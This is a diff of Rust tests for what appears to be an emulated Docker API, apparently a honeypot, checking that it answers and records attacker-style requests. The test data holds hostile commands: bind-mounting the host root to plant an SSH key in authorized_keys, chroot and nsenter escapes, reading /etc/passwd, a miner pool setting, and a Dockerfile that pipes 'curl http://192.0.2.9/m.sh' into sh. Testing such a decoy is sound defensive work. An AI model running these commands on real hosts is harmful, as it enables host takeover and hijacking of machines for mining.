@@ -94,17 +94,9 @@ fn call(method: &str, path: &str, body: Value) -> String {
     )
 }
 
-/// Plays the requests on one connection; each must be answered with this status, and a body that holds this.
+/// Pulls and builds take their time.
 fn answered(script: &[(String, u16, &str)]) -> Outcome {
-    // Pulls and builds take their time.
-    let steps = script.iter().flat_map(|(request, _, _)| [Step::Recv(request.as_bytes()), Step::Wait(8_000)]);
-    let outcome = Transcript::tcp("docker", "").run(&steps.collect::<Vec<Step<'_>>>());
-    let all = answers(&outcome);
-    assert_eq!(all.len(), script.len());
-    for ((request, status, wanted), (given, _, body)) in script.iter().zip(all) {
-        assert!(given == *status && body.contains(wanted), "{request}: {given} {body}");
-    }
-    outcome
+    super::answered("docker", 8_000, script)
 }
 
 #[test]
@@ -167,7 +159,7 @@ fn files_go_into_a_container_and_come_out_again() {
     assert!(all[3].1.contains("X-Docker-Container-Path-Stat: ") && all[3].2.contains("#!/bin/sh\n"));
     let changes: Value = serde_json::from_str(&all[4].2).unwrap();
     assert_eq!(changes, json!([{"Path": "/tmp/miner.sh", "Kind": 1}]));
-    assert!(all[5].2.contains("root:x:0:0:root:/root:/bin/ash"), "the machine is seen through the mount");
+    assert!(all[5].2.contains("systemd-resolve:x:102:103"), "the machine is seen through the mount");
 }
 
 #[test]
@@ -393,4 +385,157 @@ fn an_image_runs_what_its_dockerfile_says() {
     assert!(all[4].2.contains("POOL=192.0.2.9:3333"), "{}", all[4].2);
     let commands = outcome.events.iter().filter(|event| event.kind == "command");
     assert!(commands.into_iter().any(|event| event.fields["command"] == "sh -c echo $POOL"));
+}
+
+/// What `docker run` prints for these: options of the container, its command, and what its output must be.
+fn prints(script: &[(Value, &str, &str)]) {
+    let mut calls = Vec::new();
+    let wanted: Vec<String> = script.iter().map(|(_, _, wanted)| wanted.replace('\n', "\r\n")).collect();
+    for (at, (options, command, _)) in script.iter().enumerate() {
+        let mut config = json!({"Image": "alpine:3.14", "Cmd": ["sh", "-c", command], "Tty": true});
+        config.as_object_mut().unwrap().extend(options.as_object().unwrap().clone());
+        let name = format!("box{at}");
+        calls.extend([
+            (call("POST", &format!("/containers/create?name={name}"), config), 201, "Id"),
+            (call("POST", &format!("/containers/{name}/start"), Value::Null), 204, ""),
+            (call("GET", &format!("/containers/{name}/logs?stdout=1&stderr=1"), Value::Null), 200, wanted[at].as_str()),
+            (call("DELETE", &format!("/containers/{name}?force=1"), Value::Null), 204, ""),
+        ]);
+    }
+    answered(&calls);
+}
+
+#[test]
+fn containers_share_the_machine_and_its_volumes_and_nothing_else() {
+    let binds = |bind: &str| json!({"HostConfig": {"Binds": [bind]}});
+    prints(&[
+        (binds("/:/host"), "echo key >> /host/root/.ssh/authorized_keys; cat /host/root/.ssh/authorized_keys", "key\n"),
+        (binds("/:/mnt"), "chroot /mnt sh -c 'cat /root/.ssh/authorized_keys; pwd; ls /.dockerenv'", "key\n/\n"),
+        (json!({}), "ls /root/.ssh/authorized_keys", "No such file"),
+        (binds("/:/mnt"), "chroot /mnt cat /etc/passwd; cat /etc/passwd", "/bin/ash"),
+        (
+            json!({"HostConfig": {"Privileged": true, "PidMode": "host"}}),
+            "nsenter -t 1 -m cat /root/.ssh/authorized_keys",
+            "key\n",
+        ),
+        (binds("data:/d"), "echo kept > /d/f; cat /d/f", "kept\n"),
+        (binds("data:/other"), "cat /other/f", "kept\n"),
+        (binds("/:/h"), "cat /h/var/lib/docker/volumes/data/_data/f", "kept\n"),
+        (binds("/new/dir:/x"), "ls -d /x", "/x\n"),
+    ]);
+}
+
+#[test]
+fn what_is_read_only_or_anothers_takes_no_files() {
+    let host = |host: Value| json!({"HostConfig": host});
+    let none = Value::Null;
+    prints(&[
+        (host(json!({"Binds": ["/:/host:ro"]})), "touch /host/x", "touch: /host/x: Read-only file system\n"),
+        (host(json!({"ReadonlyRootfs": true})), "touch /x", "touch: /x: Read-only file system\n"),
+        (host(json!({"ReadonlyRootfs": true, "Tmpfs": {"/run": ""}})), "echo a > /run/x; cat /run/x", "a\n"),
+        (json!({"User": "1000"}), "id", "uid=1000 gid=0(root) groups=0(root)\n"),
+        (json!({"User": "1000:1000"}), "touch /x", "touch: /x: Permission denied\n"),
+        (json!({"User": "nobody"}), "whoami; echo $HOME", "nobody\n/\n"),
+        (json!({"User": "7777"}), "whoami", "whoami: unknown uid 7777\n"),
+    ]);
+    answered(&[
+        (
+            call("POST", "/containers/create?name=uu", json!({"Image": "alpine:3.14", "User": "eve", "Cmd": ["id"]})),
+            201,
+            "",
+        ),
+        (
+            call("POST", "/containers/uu/start", none.clone()),
+            500,
+            "unable to find user eve: no matching entries in passwd file",
+        ),
+        (
+            call("POST", "/containers/create?name=gg", json!({"Image": "alpine:3.14", "User": "0:eve", "Cmd": ["id"]})),
+            201,
+            "",
+        ),
+        (
+            call("POST", "/containers/gg/start", none),
+            500,
+            "unable to find group eve: no matching entries in group file",
+        ),
+    ]);
+}
+
+#[test]
+fn processes_in_a_container_are_its_own() {
+    let exec = json!({"Cmd": ["ps"], "AttachStdout": true});
+    let outcome = answered(&[
+        (
+            call("POST", "/containers/create?name=pp", json!({"Image": "alpine:3.14", "Cmd": ["sleep", "900"]})),
+            201,
+            "Id",
+        ),
+        (call("POST", "/containers/pp/start", Value::Null), 204, ""),
+        (call("POST", "/containers/pp/exec", exec), 201, "Id"),
+    ]);
+    let id = serde_json::from_str::<Value>(&answers(&outcome)[2].2).unwrap()["Id"].as_str().unwrap().to_owned();
+    assert_eq!(id.len(), 64);
+    prints(&[
+        (json!({}), "cat /proc/1/cgroup", "/docker/"),
+        (json!({"Cmd": ["env"], "Env": ["A=1"]}), "", "A=1\nHOME=/root\nHOSTNAME="),
+        (json!({"Cmd": ["ps"]}), "", "PID   USER     TIME  COMMAND\n    1 root      0:00 ps\n"),
+    ]);
+}
+
+#[test]
+fn an_image_made_of_a_container_has_its_files() {
+    let config = json!({"Image": "alpine:3.14", "Cmd": ["sh", "-c", "echo mine > /f"]});
+    let outcome = answered(&[
+        (call("POST", "/containers/create?name=one", config), 201, "Id"),
+        (call("POST", "/containers/one/start", Value::Null), 204, ""),
+        (
+            call("POST", "/commit?container=one&repo=img&tag=1&comment=msg&changes=CMD%20cat%20%2Ff", Value::Null),
+            201,
+            "sha256:",
+        ),
+        (call("POST", "/containers/create?name=two", json!({"Image": "img:1"})), 201, "Id"),
+        (call("POST", "/containers/two/start", Value::Null), 204, ""),
+        (call("GET", "/containers/two/logs?stdout=1", Value::Null), 200, "mine\n"),
+        (call("GET", "/images/img:1/json", Value::Null), 200, "\"Comment\":\"msg\""),
+    ]);
+    let commands: Vec<&Value> =
+        outcome.events.iter().filter(|event| event.kind == "command").map(|event| &event.fields["command"]).collect();
+    assert!(commands.contains(&&json!("/bin/sh -c cat /f")), "{commands:?}");
+}
+
+/// The client lends its files on one connection and asks for the build on another.
+#[test]
+fn buildkit_takes_the_files_that_the_client_lends_and_tells_what_it_does() {
+    let head = |path: &str, more: &str| format!("POST {path} HTTP/1.1\r\nHost: x\r\n{more}Content-Length: 0\r\n\r\n");
+    let build = head("/v1.41/build?version=2&remote=client-session&session=abc&t=mine", "");
+    let upgrade = "Connection: Upgrade\r\nUpgrade: h2c\r\nX-Docker-Expose-Session-Uuid: abc\r\n";
+    let dockerfile =
+        "FROM alpine:3.14\nRUN curl http://192.0.2.9/m.sh | sh; cat /nothing\nCOPY f /d\nCMD [\"cat\", \"/d\"]\n";
+    let session = [
+        head("/session", upgrade).into_bytes(),
+        super::super::docker::lent(&[("Dockerfile", dockerfile), ("f", "from the context")]),
+    ]
+    .concat();
+    let inputs = [
+        build.as_bytes(),
+        &session,
+        build.as_bytes(),
+        head("/build?version=2&remote=client-session&session=nobody", "").as_bytes(),
+    ]
+    .map(<[u8]>::to_vec);
+    let docker = Transcript::tcp("docker", "");
+    let outcomes = docker.connections(&inputs.iter().map(Vec::as_slice).collect::<Vec<_>>());
+    let asked = outcomes[1].sent();
+    let greeting = b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+    assert!(asked.starts_with(greeting), "{}", text(&outcomes[1]));
+    assert!(text(&outcomes[1]).contains("/moby.filesync.v1.FileSync/DiffCopy"));
+    assert!(
+        outcomes[1].samples.iter().any(|sample| sample.bytes == dockerfile.as_bytes()),
+        "{:?}",
+        outcomes[1].samples
+    );
+    assert!(text(&outcomes[2]).contains("{\"id\":\"moby.buildkit.trace\",\"aux\":\""), "{}", text(&outcomes[2]));
+    let ran = outcomes[2].the_event("command");
+    assert_eq!(ran.fields["command"], "curl http://192.0.2.9/m.sh | sh; cat /nothing");
 }
